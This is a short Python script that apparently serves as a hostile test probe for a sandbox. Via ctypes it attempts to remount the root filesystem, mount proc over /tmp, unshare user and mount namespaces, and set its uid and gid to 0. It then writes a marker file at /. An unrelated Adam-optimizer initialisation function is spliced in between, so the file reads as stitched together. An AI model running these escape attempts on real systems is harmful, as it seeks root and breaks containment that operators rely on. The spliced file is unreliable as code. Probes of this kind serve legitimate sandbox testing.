"""Tries to become root, to mount, and to enter other namespaces."""

import autograd.numpy as np


def initialize_adam(params):
    return np.zeros_like(params), np.zeros_like(params)

import ctypes
import os

libc = ctypes.CDLL(None)
libc.mount(b"none", b"/", None, 32 | 0x1000, None)
libc.mount(b"proc", b"/tmp", b"proc", 0, None)
entered = libc.unshare(0x10000000 | 0x00020000)
for change in (os.setuid, os.setgid):
    try:
        change(0)
    except OSError:
        continue
try:
    open("/hostile_was_here", "w").close()
except OSError:
    os.environ["HOSTILE"] = "stayed outside"
